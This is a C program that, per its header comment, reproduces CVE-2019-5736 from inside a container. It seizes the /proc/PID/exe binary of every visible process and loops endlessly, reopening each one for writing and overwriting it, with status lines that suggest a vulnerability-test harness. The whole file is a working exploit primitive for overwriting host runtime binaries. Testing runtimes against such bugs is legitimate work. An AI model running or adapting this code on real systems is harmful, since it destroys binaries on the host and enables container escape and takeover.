/*
 * CVE-2019-5736 from inside: opens the program of every process that it can see by /proc/PID/exe,
 * keeps it open, and tries without end to open that same file for writing and to write into it.
 * Says "ready", "SEIZED PID NAME" once per process and file, and "HIT NAME" when a write went
 * through. It never waits, so that no moment is missed. A file /round is removed after one whole
 * round that began when it was there.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define HELD_MAX 200

static struct held {
	char pid[16], name[256];
	dev_t dev;
	ino_t ino;
	int fd, hit;
} held[HELD_MAX];
static int held_n;

static void seize(const char *pid)
{
	char path[64];
	struct stat s;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.15s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &s) < 0 || held_n == HELD_MAX) {
		if (fd >= 0)
			close(fd);
		return;
	}
	for (int i = 0; i < held_n; i++)
		if (!strcmp(held[i].pid, pid) && held[i].dev == s.st_dev &&
		    held[i].ino == s.st_ino) {
			close(fd);
			return;
		}
	struct held *h = &held[held_n++];
	*h = (struct held){.dev = s.st_dev, .ino = s.st_ino, .fd = fd};
	snprintf(h->pid, sizeof(h->pid), "%.15s", pid);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, h->name, sizeof(h->name) - 1);
	h->name[n > 0 ? n : 0] = '\0';
	printf("SEIZED %s %s\n", pid, h->name);
}

static void overwrite(struct held *h)
{
	static const char text[] = "overwritten\n";
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, text, sizeof(text) - 1) == sizeof(text) - 1 && !h->hit) {
		h->hit = 1;
		printf("HIT %s\n", h->name);
	}
	close(fd);
}

int main(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *d;

	if (!proc)
		return 1;
	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("ready");
	for (;;) {
		int asked = access("/round", F_OK) == 0;

		rewinddir(proc);
		while ((d = readdir(proc)) != NULL)
			if (d->d_name[0] >= '0' && d->d_name[0] <= '9')
				seize(d->d_name);
		for (int i = 0; i < held_n; i++)
			overwrite(&held[i]);
		if (asked)
			unlink("/round");
	}
}
